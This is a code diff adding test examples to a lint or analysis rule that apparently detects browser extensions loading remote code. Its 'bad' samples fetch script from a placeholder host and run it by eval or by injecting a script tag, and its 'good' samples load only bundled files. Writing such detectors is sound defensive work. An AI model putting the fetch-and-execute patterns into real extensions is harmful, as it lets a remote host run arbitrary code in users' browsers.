@@ -35,6 +35,10 @@ export default defineRule({
     hitsOfFlows(facts.whole(flowsOf).flows, (flow) => (isNeverAsked(facts, flow.source) ? undefined : weigh(flow))),
   examples: {
     bad: [
+      sample({
+        content:
+          'const load = (file) => fetch(file).then((r) => r.text()).then((text) => { const s = document.createElement("script"); s.textContent = text; document.body.append(s); }); load(chrome.runtime.getURL("lib/cv.js")); load("https://cdn.example/more.js");',
+      }),
       sample({ background: 'fetch("https://cdn.example/rules.js").then((r) => r.text()).then((t) => eval(t));' }),
       sample({
         background:
@@ -56,6 +60,14 @@ export default defineRule({
       sample({ background: 'axios.get("https://cdn.example/a").then(({ data }) => { (0, eval)(data); });' }),
     ],
     good: [
+      sample({
+        content:
+          'const load = (file) => fetch(file).then((r) => r.text()).then((text) => { const s = document.createElement("script"); s.textContent = text; document.body.append(s); }); load(chrome.runtime.getURL("lib/cv.js"));',
+      }),
+      sample({
+        content:
+          'function load(file) { const x = new XMLHttpRequest(); x.open("GET", file); x.onload = () => { const s = document.createElement("script"); s.textContent = x.responseText; document.body.append(s); }; x.send(); } load(chrome.runtime.getURL("lib/cv.js"));',
+      }),
       sample({
         background:
           'var x = new XMLHttpRequest(); x.open("GET", chrome.runtime.getURL("inject.js"), true); x.onload = function () { chrome.tabs.executeScript({ code: x.responseText }); }; x.send();',
